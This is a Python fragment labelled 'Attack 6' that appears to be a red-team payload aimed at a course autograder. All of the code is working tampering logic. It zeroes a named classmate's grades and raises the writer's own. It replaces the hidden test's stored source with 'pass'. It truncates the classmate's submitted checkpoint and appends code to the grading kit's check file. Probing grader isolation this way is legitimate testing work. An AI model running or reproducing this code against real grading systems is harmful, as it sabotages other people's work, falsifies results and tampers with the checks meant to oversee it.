# Attack 6: write outside the submission: every gradebook in reach (a classmate zeroed, this student at the
# maximum with extra credit, the hidden test's stored source replaced), a classmate's submitted checkpoint,
# the kit's own checks.
import importlib.util

for _rt_db in _rt_gradebooks():
    try:
        _rt_changed = _rt_set_grades(_rt_db, _RT_VICTIM, score=0) + _rt_set_grades(_rt_db, _RT_ME, extra=7)
        if _rt_db.name == "gradebook.db" and _rt_db.parent.parent.resolve() == _RT_COURSE.resolve():
            with _rt_closing(_rt_sqlite3.connect(_rt_db, timeout=10)) as _rt_con:
                _rt_con.execute("UPDATE source_cell SET source = 'pass' WHERE name = 'test_kd_loss'")
                _rt_con.commit()
        print(f"redteam: wrote {_rt_changed} grades in {_rt_db}")
    except Exception as error:
        print(f"redteam: could not write {_rt_db} ({type(error).__name__})")

for _rt_path in _rt_glob(f"grading/submitted/{_RT_VICTIM}/kd/artifacts/student_kd.pt"):
    try:
        with open(_rt_path, "r+b") as _rt_file:
            _rt_file.truncate(64)
        print(f"redteam: truncated {_rt_path}")
    except Exception as error:
        print(f"redteam: could not truncate {_rt_path} ({type(error).__name__})")

_rt_kit = _rt_glob("autograde/checks/kd.py")
try:
    _rt_kit.append(_RtPath(importlib.util.find_spec("autograde.checks.kd").origin))
except Exception:
    pass
for _rt_path in {p.resolve() for p in _rt_kit}:
    try:
        with open(_rt_path, "a") as _rt_file:
            _rt_file.write(__KIT_LINE__)
        print(f"redteam: appended to {_rt_path}")
    except Exception as error:
        print(f"redteam: could not append to {_rt_path} ({type(error).__name__})")
